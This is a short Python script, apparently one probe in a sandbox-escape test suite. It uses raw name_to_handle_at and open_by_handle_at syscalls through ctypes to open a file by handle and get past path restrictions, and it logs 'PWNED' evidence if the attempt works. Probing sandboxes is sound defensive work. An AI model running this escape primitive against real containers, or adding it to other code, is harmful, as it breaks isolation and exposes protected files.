# attack: file_handles
# kind: leak   task: any   naive: run
# attempts: open a file by its handle, past every path
import os

def evidence(found="yes"):
    said = f"PWNED file_handles {found}"[:200].encode("utf-8", "replace") + b"\n"
    try:
        os.write(1, said)
        os.write(os.open("/tmp/sbx_evidence/file_handles", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666), said)
    except OSError:
        pass

import ctypes

libc = ctypes.CDLL(None, use_errno=True)

def call(number, *args):  # x86-64 numbers
    ctypes.set_errno(0)
    return libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, args)), ctypes.get_errno()

handle = ctypes.create_string_buffer(136)
ctypes.c_uint.from_buffer(handle).value = 128
mount = ctypes.c_int()
at = ctypes.create_string_buffer(b"/usr")
call(303, -100, ctypes.addressof(at), ctypes.addressof(handle), ctypes.addressof(mount), 0)
place = os.open("/usr", os.O_RDONLY)
got, _ = call(304, place, ctypes.addressof(handle), 0)
if got >= 0:
    evidence("open_by_handle_at")
